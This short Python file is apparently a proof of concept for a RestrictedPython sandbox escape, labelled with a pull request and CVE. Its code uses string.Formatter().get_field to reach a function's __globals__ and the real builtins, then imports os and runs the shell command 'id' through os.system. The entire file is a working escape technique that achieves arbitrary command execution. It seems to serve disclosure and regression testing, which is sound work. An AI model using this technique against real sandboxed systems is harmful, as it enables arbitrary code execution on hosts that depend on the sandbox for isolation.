# Source: https://github.com/zopefoundation/RestrictedPython/pull/330 (string.Formatter escape, CVE-2026-76825)
# Family: attr-in-string
# What: string.Formatter().get_field returns the real object, not just its repr
import string

def f():
    pass

obj, _ = string.Formatter().get_field("0.__globals__[__builtins__]", (f,), {})
obj.__import__("os").system("id")
